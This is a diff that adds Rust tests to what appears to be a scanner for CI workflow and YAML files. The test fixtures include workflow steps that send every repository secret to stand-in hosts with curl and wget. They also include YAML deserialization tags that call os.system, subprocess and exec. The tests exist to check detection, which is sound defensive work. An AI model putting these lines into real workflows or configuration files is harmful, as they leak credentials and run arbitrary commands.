@@ -154,3 +154,64 @@ proptest! {
         }
     }
 }
+
+fn chains_of(text: &str) -> Vec<Rule> {
+    let found = strings(Syntax::Yaml, text).into_iter().flat_map(|text| {
+        shell::chains(&text.text, shell::Start::Mentioned, &mut Limits::default())
+    });
+    found.map(|chain| chain.rule).collect()
+}
+
+#[test]
+fn a_workflow_that_sends_all_secrets_to_a_host_is_read() {
+    for text in [
+        "steps:\n  - env:\n      ALL: ${{ toJSON(secrets) }}\n    run: |\n      echo \"$ALL\" | base64 -w0 \\\n        | curl -s -X POST -d @- https://cov.starter.invalid/u\n",
+        "steps:\n  - run: curl -d '${{ toJson( secrets ) }}' https://cov.starter.invalid/u\n",
+        "env:\n  S: ${{toJSON(secrets)}}\nsteps:\n  - run: |\n      printf '%s' \"${S}\" > /tmp/o\n      curl --data-binary @/tmp/o https://cov.starter.invalid\n",
+        "steps:\n  - run: wget -q --post-data=\"${{ TOJSON(secrets) }}\" http://203.0.113.9/c -O /dev/null\n",
+        "env: {K: \"${{ toJSON(secrets) }}\"}\nsteps:\n  - run: echo '${{ env.K }}' | gzip | curl -T - https://cov.starter.invalid/u\n",
+    ] {
+        assert_eq!(chains_of(text), [Rule::EnvironmentSent], "{text}");
+    }
+    for text in [
+        "steps:\n  - env:\n      ALL: ${{ toJSON(secrets) }}\n    run: node scripts/check-names.mjs\n  - run: curl -fsS https://hc.vendor.example/done\n",
+        "steps:\n  - env:\n      ALL: ${{ toJSON(secrets) }}\n    run: echo \"$ALL\" | jq -r 'keys[]'\n",
+        "steps:\n  - env:\n      ALL: ${{ toJSON(secrets) }}\n    run: echo \"$ALL\" | jq 'with_entries(select(.key|startswith(\"APP_\")))' | curl -d @- https://config.vendor.example/app\n",
+        "steps:\n  - env:\n      TOKEN: ${{ secrets.CODECOV_TOKEN }}\n    run: curl -H \"Authorization: Bearer $TOKEN\" -d @cov.xml https://cov.vendor.example/u\n",
+        "steps:\n  - run: curl -d '${{ toJSON(github.event) }}' https://hooks.vendor.example/u\n",
+        "steps:\n  - run: echo \"never send ${{ toJSON(secrets) }} to a host\"\n",
+    ] {
+        assert_eq!(chains_of(text), [], "{text}");
+    }
+}
+
+#[test]
+fn what_a_loader_runs_is_found_with_its_language() {
+    let found = |text: &str| -> Vec<(Option<Syntax>, String, u32)> {
+        let all = super::loaded(text).into_iter();
+        all.map(|value| (value.code, value.text.text.clone(), value.text.line(1))).collect()
+    };
+    let shell = |text: &str, line| vec![(None, text.to_owned(), line)];
+    assert_eq!(found("a: !!python/object/apply:os.system\n  - \"id\"\n"), shell("id", 2));
+    assert_eq!(found("!!python/object/apply:os.system ['id']"), shell("id", 1));
+    assert_eq!(
+        found("a: !!python/object/new:subprocess.check_output [[sh, -c, 'id']]\nb: x"),
+        [(None, "sh".into(), 1), (None, "-c".into(), 1), (None, "id".into(), 1)]
+    );
+    assert_eq!(
+        found("a: !<tag:yaml.org,2002:python/object/apply:builtins.exec>\n  args: ['x()']"),
+        [(Some(Syntax::Python), "args".into(), 2), (Some(Syntax::Python), "x()".into(), 2)]
+    );
+    assert_eq!(
+        found("a: !!js/function 'function () { f() }'"),
+        [(Some(Syntax::JavaScript), "function () { f() }".into(), 1)]
+    );
+    for honest in [
+        "a: !!python/tuple [curl x | sh, 2]",
+        "a: !!python/object/apply:datetime.date [2026, 1, 1]",
+        "a: !!python/name:material.extensions.emoji.twemoji\nb: curl x | sh",
+        "a: !ENV [CI, false]\nb: !!binary aGVsbG8=",
+    ] {
+        assert_eq!(found(honest), [], "{honest}");
+    }
+}
